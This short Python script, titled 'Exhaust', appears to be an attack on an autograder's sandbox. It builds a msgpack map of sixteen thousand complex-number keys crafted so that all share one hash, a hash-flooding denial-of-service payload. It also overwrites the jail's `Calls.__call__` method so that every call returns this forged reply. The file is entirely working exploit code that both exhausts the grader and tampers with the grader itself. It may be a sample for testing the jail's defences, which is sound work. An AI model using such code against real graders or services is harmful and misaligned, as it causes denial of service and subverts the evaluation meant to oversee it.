"""Exhaust: a forged reply, a map of sixteen thousand complex keys that all have the same hash."""

import struct
import sys

import msgpack

keys = [msgpack.packb(msgpack.ExtType(7, msgpack.packb([-1000003.0 * k, float(k)]))) for k in range(16000)]
value = b"\xdf" + struct.pack(">I", len(keys)) + b"".join(key + b"\xc0" for key in keys)
reply = b"\x82\xa4call\x00\xa5value" + value
sys.modules["autograder.jail.calls"].Calls.__call__ = lambda self, request: reply
